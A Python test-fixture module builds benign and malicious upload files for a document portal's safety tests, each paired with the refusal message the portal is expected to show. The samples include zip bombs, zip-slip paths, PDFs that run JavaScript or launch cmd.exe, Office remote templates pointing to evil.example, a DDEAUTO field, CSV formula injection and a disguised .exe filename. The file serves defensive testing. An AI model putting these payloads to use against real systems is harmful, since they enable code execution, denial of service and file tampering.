"""Files to upload: good ones, and every bad one of the list that the portal must withstand. All are made here."""

import io
import zipfile
import zlib

import pikepdf
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from partnership.documents.scanners import EICAR
from tests.world import small_pdf

MB = 1024 * 1024
OOXML = "application/vnd.openxmlformats-officedocument"
MAIN = {
    "docx": ("word/document.xml", f"{OOXML}.wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", f"{OOXML}.spreadsheetml.sheet.main+xml"),
    "pptx": ("ppt/presentation.xml", f"{OOXML}.presentationml.presentation.main+xml"),
}
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"


def zipped(parts, *, compression=zipfile.ZIP_DEFLATED) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", compression) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return written.getvalue()


def office(extension, more=None, *, main=None, relations="") -> bytes:
    part, content_type = MAIN[extension]
    override = f'<Override PartName="/{part}" ContentType="{main or content_type}"/>'
    types = f'<Types xmlns="{PACKAGE}/content-types">{override}</Types>'
    rels = f'<Relationships xmlns="{PACKAGE}/relationships">{relations}</Relationships>'
    folder = part.split("/")[0]
    return zipped({"[Content_Types].xml": types, part: "<x/>", f"{folder}/_rels/main.xml.rels": rels} | (more or {}))


def relation(kind, target, mode=' TargetMode="External"') -> str:
    return f'<Relationship Id="r1" Type="{RELS}/{kind}" Target="{target}"{mode}/>'


def entry(name, *, mode=0) -> bytes:
    """A DOCX with one more entry under a name of our choice."""
    written = io.BytesIO(office("docx"))
    with zipfile.ZipFile(written, "a") as archive:
        info = zipfile.ZipInfo("placeholder")
        info.filename = name
        info.external_attr = mode << 16
        archive.writestr(info, b"x")
    return written.getvalue()


def encrypted_zip() -> bytes:
    """As far as anybody sees who has no password: the flag of every entry is set."""
    content = bytearray(office("docx"))
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = content.find(mark)
        while start >= 0:
            content[start + at] |= 1
            start = content.find(mark, start + 4)
    return bytes(content)


def many_entries() -> bytes:
    return zipped({f"{number}.xml": b"" for number in range(100_000)}, compression=zipfile.ZIP_STORED)


def bomb() -> bytes:
    """A workbook of 0.3 MB that declares 318 MB."""
    return office("xlsx", {"xl/worksheets/sheet1.xml": bytes(318 * MB)})


def nested_bomb() -> bytes:
    """As 42.zip: archives in an archive, each of them far larger inside."""
    inner = zipped({"0.dll": bytes(4 * MB)})
    return zipped({f"lib {number}.zip": inner for number in range(16)})


def old_office(words=b"") -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + words + bytes(2000)


def pdf(change) -> bytes:
    writer = PdfWriter(clone_from=io.BytesIO(small_pdf("words")))
    change(writer)
    written = io.BytesIO()
    writer.write(written)
    return written.getvalue()


def _hidden_script(writer):
    """An object that no page leads to."""
    words = {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
    writer._add_object(DictionaryObject(words))


def _launch(writer):
    action = {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")}
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(action)


def _script(writer):
    words = {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(words)


def pdf_with_script() -> bytes:
    return pdf(_script)


def pdf_with_hidden_script() -> bytes:
    return pdf(_hidden_script)


def pdf_with_spelt_script() -> bytes:
    """The names of its keys are written in numbers, as the format allows."""
    return pdf_with_hidden_script().replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/J#53")


def pdf_that_launches_from_afar() -> bytes:
    """The word that says so stands in another object."""

    def change(writer):
        word = writer._add_object(NameObject("/Launch"))
        action = {NameObject("/S"): word, NameObject("/F"): TextStringObject("cmd.exe")}
        writer.root_object[NameObject("/OpenAction")] = DictionaryObject(action)

    return pdf(change)


def pdf_with_packed_script() -> bytes:
    """Its objects are packed in a stream of objects, where no search for words finds them."""
    written = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf_with_script())) as document:
        document.save(written, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return written.getvalue()


def pdf_that_launches() -> bytes:
    return pdf(_launch)


def pdf_with_attachment() -> bytes:
    return pdf(lambda writer: writer.add_attachment("list.txt", b"names"))


def pdf_with_password() -> bytes:
    return pdf(lambda writer: writer.encrypt("secret", algorithm="RC4-128"))


def picture(kind="PNG", size=(40, 30), **more) -> bytes:
    written = io.BytesIO()
    Image.new("RGB", size, (120, 30, 200)).save(written, kind, **more)
    return written.getvalue()


def huge_png() -> bytes:
    """60,000 × 60,000 pixels in a hundred bytes: the head alone says so."""

    def part(kind, data):
        return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")

    head = (60_000).to_bytes(4, "big") * 2 + bytes((8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + part(b"IHDR", head) + part(b"IDAT", zlib.compress(b"\0")) + part(b"IEND", b"")


def photograph() -> bytes:
    """A JPEG with the place of a child's home, a camera, a comment, and turned on its side."""
    exif = Image.Exif()
    exif[0x010F], exif[0x0112] = "Camera of somebody", 6
    exif.get_ifd(0x8825)[1], exif.get_ifd(0x8825)[2] = "N", (53.0, 1.0, 30.0)
    return picture("JPEG", exif=exif, comment=b"taken at home")


HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'

# safety.md 6, uploads 1 to 13: what it is, its name, its bytes, the words that a person must read.
REFUSED = [
    ("1 html as pdf", "report.pdf", lambda: HTML, "This file is a web page, whatever its name says. Save it as PDF"),
    ("1 html with a mark before", "report.pdf", lambda: b"\xef\xbb\xbf \n" + HTML, "This file is a web page"),
    ("2 svg as png", "map.png", lambda: SVG, "This file is an SVG drawing, whatever its name says. Save it as PNG"),
    ("2 svg", "map.svg", lambda: SVG, "This file is an SVG drawing"),
    ("3 gif and script", "x.png", lambda: b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)//;", "not what its name says"),
    ("3 pdf behind a script", "x.pdf", lambda: b"<script>1</script>" + small_pdf("x"), "This file is a web page"),
    ("3 pdf behind words", "x.pdf", lambda: b"alert(1);" + small_pdf("x"), "not what its name says"),
    ("3 pdf and zip", "x.pdf", lambda: small_pdf("x") + zipped({"a.js": b"x"}), "two kinds of file in one"),
    ("3 docx behind a script", "x.docx", lambda: b"#!/bin/sh\n" + office("docx"), "not what its name says"),
    ("3 docx before a script", "x.docx", lambda: office("docx") + b"\n<script>", "two kinds of file in one"),
    ("4 test virus", "letter.txt", lambda: EICAR, "Ask your IT department who put it there."),
    ("4 test virus in a docx", "letter.docx", lambda: office("docx", {"word/x.bin": EICAR}), "contains a test virus"),
    ("4 test virus in a zip", "letter.zip", lambda: zipped({"x.com": EICAR}), "Unpack it and upload each file"),
    ("4 test virus in a zip as docx", "letter.docx", lambda: zipped({"x.com": EICAR}), "contains a test virus"),
    ("4 encrypted zip", "letter.docx", encrypted_zip, "has a password, so it cannot be checked. Save it without"),
    ("5 42.zip", "x.docx", nested_bomb, "This file has an archive inside. Save it as PDF"),
    ("5 workbook of 318 MB", "x.xlsx", bomb, "unpacks to far more than it should. Save it as PDF"),
    ("6 100,000 entries", "x.docx", many_entries, "unpacks to far more than it should"),
    ("7 zip-slip", "x.docx", lambda: entry("../../etc/x"), "parts inside whose names lead out of it"),
    ("7 zip-slip of Windows", "x.docx", lambda: entry("..\\..\\x"), "parts inside whose names lead out of it"),
    ("7 absolute", "x.docx", lambda: entry("/etc/x"), "parts inside whose names lead out of it"),
    ("7 drive", "x.docx", lambda: entry("C:\\x"), "parts inside whose names lead out of it"),
    ("7 symlink", "x.docx", lambda: entry("word/link", mode=0o120777), "parts inside whose names lead out of it"),
    ("7 one name twice", "x.docx", lambda: entry("WORD/document.xml"), "parts inside whose names lead out of it"),
    ("8 docm", "x.docm", lambda: office("docx"), "This file has macros, which can harm a computer. Save it as PDF"),
    ("8 xlsm", "x.xlsm", lambda: office("xlsx"), "This file has macros"),
    ("8 macros under a quiet name", "x.docx", lambda: office("docx", {"word/vbaProject.bin": b"x"}), "has macros"),
    (
        "8 macros by their type", "x.docx",
        lambda: office("docx", main="application/vnd.ms-word.document.macroEnabled.main+xml"), "has macros",
    ),
    ("8 macro sheet", "x.xlsx", lambda: office("xlsx", {"xl/macrosheets/sheet1.xml": b"x"}), "has macros"),
    (
        "8 remote template", "x.docx",
        lambda: office("docx", relations=relation("attachedTemplate", "https://evil.example/x.dotm")),
        "This file fetches something from elsewhere when it is opened",
    ),
    (
        "8 remote template of Windows", "x.docx",
        lambda: office("docx", relations=relation("attachedTemplate", r"\\evil.example\x.dotm", "")), "fetches",
    ),
    (
        "8 remote picture", "x.pptx",
        lambda: office("pptx", relations=relation("image", "http://evil.example/x.png")), "fetches",
    ),
    ("8 link that runs", "x.docx", lambda: office("docx", relations=relation("hyperlink", "file:///x.exe")), "fetches"),
    (
        "8 field that starts a program", "x.docx",
        lambda: office("docx", {"word/a.xml": b"<w:instrText> DDEAUTO c:/x.exe</w:instrText>"}),
        "fetches",
    ),
    ("8 other workbook", "x.xlsx", lambda: office("xlsx", {"xl/externalLinks/externalLink1.xml": b"x"}), "fetches"),
    ("8 program inside", "x.docx", lambda: office("docx", {"word/embeddings/oleObject1.bin": b"x"}), "program inside"),
    ("8 entity bomb", "x.docx", lambda: office("docx", {"word/_rels/a.rels": b"<!DOCTYPE a []><a/>"}), "damaged"),
    ("9 png of 60,000 pixels", "x.png", huge_png, "This picture has too many pixels. Save it smaller"),
    ("10 nothing", "x.pdf", lambda: b"", "The file is empty."),
    ("10 pdf cut off", "x.pdf", lambda: small_pdf("x")[:-30], "The file is not whole: its end is missing. Upload"),
    ("10 docx cut off", "x.docx", lambda: office("docx")[:-30], "The file is not whole"),
    ("10 docx cut in half", "x.docx", lambda: office("docx")[:300], "The file is not whole"),
    ("10 jpeg cut off", "x.jpg", lambda: picture("JPEG", (400, 400))[:-400], "The file is not whole"),
    ("10 png cut off", "x.png", lambda: picture("PNG", (400, 400))[:-40], "The file is not whole"),
    ("11 hidden program", "report\u202efdp.exe", lambda: b"MZ", "Files of this type cannot be kept. Save it as PDF"),
    ("11 program as pdf", "x.pdf", lambda: b"MZ" + bytes(900), "not what its name says"),
    ("12 pdf with script", "x.pdf", pdf_with_script, "This PDF runs something when it is opened. Print it to PDF"),
    ("12 pdf with a hidden script", "x.pdf", pdf_with_hidden_script, "This PDF runs something"),
    ("12 pdf with a script spelt in numbers", "x.pdf", pdf_with_spelt_script, "This PDF runs something"),
    ("12 pdf with a packed script", "x.pdf", pdf_with_packed_script, "This PDF runs something"),
    ("12 pdf that starts a program from afar", "x.pdf", pdf_that_launches_from_afar, "This PDF runs something"),
    ("12 pdf that starts a program", "x.pdf", pdf_that_launches, "This PDF runs something"),
    ("12 pdf with attachment", "x.pdf", pdf_with_attachment, "This PDF has other files inside. Save each of them"),
    ("12 pdf with password", "x.pdf", pdf_with_password, "has a password, so it cannot be checked"),
    ("damaged pdf", "x.pdf", lambda: b"%PDF-1.7\nnothing of it\n%%EOF\n", "damaged. Check that it opens"),
    ("old word", "x.doc", old_office, "in an old Office format or has a password"),
    ("word with password", "x.docx", old_office, "in an old Office format or has a password"),
    ("formula in csv", "x.csv", lambda: b"name,what\nA,=cmd|'/C calc'!A0\n", "This CSV file has a formula"),
    ("link in csv", "x.csv", lambda: b'a;"=HYPERLINK(""http://evil.example"")"\n', "This CSV file has a formula"),
    ("program as text", "x.txt", lambda: b"MZ\x90\x00", "not what its name says"),
    ("bytes as text", "x.txt", lambda: b"a\x00b", "not what its name says"),
    ("a workbook as document", "x.docx", lambda: office("xlsx"), "not what its name says"),
    ("a zip as document", "x.docx", lambda: zipped({"a.txt": b"x"}), "not what its name says"),
    ("a message", "x.eml", lambda: b"Subject: x\n\nx", "Files of this type cannot be kept. Save it as PDF"),
]  # fmt: skip

GOOD = [
    ("letter.pdf", lambda: small_pdf("words")),
    ("letter.docx", lambda: office("docx", relations=relation("hyperlink", "https://www.gov.uk/"))),
    ("list.xlsx", lambda: office("xlsx", {"xl/embeddings/chart.xlsx": office("xlsx")})),
    ("about DDE.docx", lambda: office("docx", {"word/a.xml": b"<w:t>The DDE programme</w:t>"})),
    ("talk.pptx", lambda: office("pptx")),
    ("picture.png", picture),
    ("PHOTO.JPG", photograph),
    ("notes.txt", "Ní Dhomhnaill – ‘said’ £5".encode("cp1252")),
    ("notes.txt", "\ufeffZoë".encode("utf-16")),
    ("list.csv", b"name,telephone,balance,note\nO'Brien,+44 1782 000000,-5,- none\n,-,,@home\n"),
]
